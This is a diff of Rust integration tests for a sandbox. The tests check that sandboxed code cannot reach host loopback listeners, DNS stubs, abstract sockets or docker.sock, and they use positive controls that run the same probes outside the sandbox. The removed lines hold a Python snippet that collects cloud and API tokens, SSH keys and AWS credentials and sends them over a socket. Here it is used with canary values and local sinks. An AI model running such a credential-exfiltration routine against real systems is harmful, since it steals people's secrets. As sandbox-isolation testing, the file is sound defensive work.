@@ -3,40 +3,15 @@
 
 mod common;
 
+use common::probes::{self, exfil_probe, Mode};
 use common::*;
-
-/// What an exfiltrating package does first: collect secrets from the environment and HOME.
-const GATHER: &str = r#"
-secrets = []
-for n in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"]:
-    if n in os.environ:
-        secrets.append(os.environ[n])
-for rel in [".ssh/id_rsa", ".aws/credentials"]:
-    try:
-        secrets.append(read_head(os.path.expanduser("~/" + rel)).strip())
-    except OSError:
-        pass
-PAYLOAD = ("exfil " + A["marker"] + " " + " ".join(secrets)).encode()
-def send_stream(family, addr):
-    s = socket.socket(family, socket.SOCK_STREAM)
-    s.settimeout(3)
-    try:
-        s.connect(addr)
-        s.sendall(PAYLOAD)
-    finally:
-        s.close()
-"#;
-
-fn probe_with_gather(env: &TestEnv, name: &str, body: &str) -> std::path::PathBuf {
-    env.probe(name, &format!("{GATHER}\n{body}"))
-}
 
 #[test]
 fn host_loopback_tcp_listener_is_unreachable() {
     each_variant(|v| {
         let env = TestEnv::new(v, "tcp");
         let sink = Sink::tcp();
-        let probe = probe_with_gather(
+        let probe = exfil_probe(
             &env,
             "tcp",
             r#"
@@ -46,22 +21,14 @@ attempt("tcp_127.0.0.1", send_stream, socket.AF_INET, ("127.0.0.1", A["port"]))
         let marker = format!("marker-{}", env.nonce);
         let args = jobj(&[("port", sink.port.to_string()), ("marker", jstr(&marker))]);
 
-        let inside = env.run_probe(&probe, &args, &[]);
-        inside.expect_success();
-        let p = inside.probe();
+        let p = Mode::Namespaces.run_ok(&env, &probe, &args, &[]).probe();
         p.expect_in("tcp_127.0.0.1", &["ECONNREFUSED", "ENETUNREACH"]);
         sink.assert_untouched("TCP 127.0.0.1 from the sandbox");
 
         // Positive control: without seal the listener receives the marker and the canaries.
-        let direct = env.run_direct(&probe, &args);
-        direct.expect_success();
-        direct.probe().expect_eq("tcp_127.0.0.1", "OK");
-        sink.assert_received(&marker, "TCP control");
-        sink.assert_received(
-            &env.canary_env_value("AWS_SECRET_ACCESS_KEY"),
-            "TCP control",
-        );
-        sink.assert_received(&env.canary_file_content(".ssh/id_rsa"), "TCP control");
+        env.direct_ok(&probe, &args)
+            .expect_eq("tcp_127.0.0.1", "OK");
+        probes::expect_exfil_received(&sink, &env, &marker, "TCP control");
     });
 }
 
@@ -70,7 +37,7 @@ fn dns_query_to_host_loopback_stub_is_not_delivered() {
     each_variant(|v| {
         let env = TestEnv::new(v, "dns");
         let sink = Sink::udp_dns();
-        let probe = probe_with_gather(
+        let probe = exfil_probe(
             &env,
             "dns",
             r#"
@@ -94,9 +61,7 @@ attempt("udp_sendto", lambda: u.sendto(query(name), ("127.0.0.1", A["port"])) an
         let marker = format!("marker-{}", env.nonce);
         let args = jobj(&[("port", sink.port.to_string()), ("marker", jstr(&marker))]);
 
-        let inside = env.run_probe(&probe, &args, &[]);
-        inside.expect_success();
-        let p = inside.probe();
+        let p = Mode::Namespaces.run_ok(&env, &probe, &args, &[]).probe();
         // Sending a datagram on the sandbox's own loopback succeeds; nobody answers there.
         p.expect_eq("udp_connect", "OK");
         p.expect_in("udp_send", &["OK", "ECONNREFUSED", "ENETUNREACH"]);
@@ -104,9 +69,7 @@ attempt("udp_sendto", lambda: u.sendto(query(name), ("127.0.0.1", A["port"])) an
         sink.assert_untouched("UDP DNS query from the sandbox");
 
         // Positive control: the stub receives the query (with the marker) and answers.
-        let direct = env.run_direct(&probe, &args);
-        direct.expect_success();
-        let c = direct.probe();
+        let c = env.direct_ok(&probe, &args);
         c.expect_eq("udp_send", "OK");
         c.expect_eq("udp_reply", "OK");
         sink.assert_received(&marker, "DNS control");
@@ -118,7 +81,7 @@ fn host_abstract_unix_socket_is_unreachable() {
     each_variant(|v| {
         let env = TestEnv::new(v, "abstract");
         let sink = Sink::abstract_unix();
-        let probe = probe_with_gather(
+        let probe = exfil_probe(
             &env,
             "abstract",
             r#"attempt("abstract", send_stream, socket.AF_UNIX, "\0" + A["name"])"#,
@@ -126,18 +89,13 @@ fn host_abstract_unix_socket_is_unreachable() {
         let marker = format!("marker-{}", env.nonce);
         let args = jobj(&[("name", jstr(&sink.name)), ("marker", jstr(&marker))]);
 
-        let inside = env.run_probe(&probe, &args, &[]);
-        inside.expect_success();
+        let p = Mode::Namespaces.run_ok(&env, &probe, &args, &[]).probe();
         // Abstract sockets belong to the network namespace (ECONNREFUSED); Landlock's
         // abstract-socket scope would answer EPERM.
-        inside
-            .probe()
-            .expect_in("abstract", &["ECONNREFUSED", "EPERM"]);
+        p.expect_in("abstract", &["ECONNREFUSED", "EPERM"]);
         sink.assert_untouched("abstract Unix socket from the sandbox");
 
-        let direct = env.run_direct(&probe, &args);
-        direct.expect_success();
-        direct.probe().expect_eq("abstract", "OK");
+        env.direct_ok(&probe, &args).expect_eq("abstract", "OK");
         sink.assert_received(&marker, "abstract socket control");
     });
 }
@@ -148,7 +106,7 @@ fn docker_sock_path_is_not_visible() {
         let env = TestEnv::new(v, "docker-sock");
         let path = env.run_dir.join("docker.sock");
         let sink = Sink::path_unix(&path);
-        let probe = probe_with_gather(
+        let probe = exfil_probe(
             &env,
             "docker_sock",
             r#"
@@ -159,16 +117,12 @@ attempt("connect", send_stream, socket.AF_UNIX, A["path"])
         let marker = format!("marker-{}", env.nonce);
         let args = jobj(&[("path", jpath(&path)), ("marker", jstr(&marker))]);
 
-        let inside = env.run_probe(&probe, &args, &[]);
-        inside.expect_success();
-        let p = inside.probe();
+        let p = Mode::Namespaces.run_ok(&env, &probe, &args, &[]).probe();
         p.expect_eq("stat", "ENOENT");
         p.expect_eq("connect", "ENOENT");
         sink.assert_untouched("docker.sock from the sandbox");
 
-        let direct = env.run_direct(&probe, &args);
-        direct.expect_success();
-        direct.probe().expect_eq("connect", "OK");
+        env.direct_ok(&probe, &args).expect_eq("connect", "OK");
         sink.assert_received(&marker, "docker.sock control");
     });
 }
@@ -183,7 +137,7 @@ fn host_unix_socket_inside_the_project_is_not_connectable() {
         let env = TestEnv::new(v, "project-sock");
         let path = env.project.join("agent.sock");
         let sink = Sink::path_unix(&path);
-        let probe = probe_with_gather(
+        let probe = exfil_probe(
             &env,
             "project_sock",
             r#"attempt("connect", send_stream, socket.AF_UNIX, A["path"])"#,
@@ -191,16 +145,13 @@ fn host_unix_socket_inside_the_project_is_not_connectable() {
         let marker = format!("marker-{}", env.nonce);
         let args = jobj(&[("path", jpath(&path)), ("marker", jstr(&marker))]);
 
-        let inside = env.run_probe(&probe, &args, &[]);
-        inside.expect_success();
-        inside
+        Mode::Namespaces
+            .run_ok(&env, &probe, &args, &[])
             .probe()
             .expect_in("connect", &["ECONNREFUSED", "EACCES", "EPERM", "ENOENT"]);
         sink.assert_untouched("a host socket inside the project, from the sandbox");
 
-        let direct = env.run_direct(&probe, &args);
-        direct.expect_success();
-        direct.probe().expect_eq("connect", "OK");
+        env.direct_ok(&probe, &args).expect_eq("connect", "OK");
         sink.assert_received(&marker, "project socket control");
     });
 }
@@ -212,35 +163,25 @@ def proc_net_dev():
         lines = f.read().splitlines()[2:]
     return ",".join(sorted(l.split(":")[0].strip() for l in lines))
 attempt("proc_net_dev", proc_net_dev)
-def loopback_echo():
-    srv = socket.socket()
-    srv.bind(("127.0.0.1", 0))
-    srv.listen(1)
-    c = socket.create_connection(srv.getsockname(), timeout=3)
-    a, _ = srv.accept()
-    c.sendall(b"ping")
-    return a.recv(4).decode()
-attempt("loopback_echo", loopback_echo)
 "#;
 
 #[test]
 fn only_the_loopback_interface_exists_and_it_is_up() {
     each_variant(|v| {
         let env = TestEnv::new(v, "interfaces");
-        let probe = env.probe("interfaces", INTERFACES);
+        let probe = env.probe(
+            "interfaces",
+            &format!("{INTERFACES}{}", probes::LOOPBACK_ECHO),
+        );
 
-        let inside = env.run_probe(&probe, "{}", &[]);
-        inside.expect_success();
-        let p = inside.probe();
+        let p = Mode::Namespaces.run_ok(&env, &probe, "{}", &[]).probe();
         p.expect_eq("ifaces", "lo");
         p.expect_eq("proc_net_dev", "lo");
         // The sandbox's own loopback works (servers and clients inside can talk).
         p.expect_eq("loopback_echo", "ping");
 
         // Positive control: the host has more than a loopback interface.
-        let direct = env.run_direct(&probe, "{}");
-        direct.expect_success();
-        let host = direct.probe().get("ifaces").to_string();
+        let host = env.direct_ok(&probe, "{}").get("ifaces").to_string();
         if host == "lo" {
             eprintln!(
                 "NOTE: the host itself has only `lo`: the interface check cannot discriminate here"
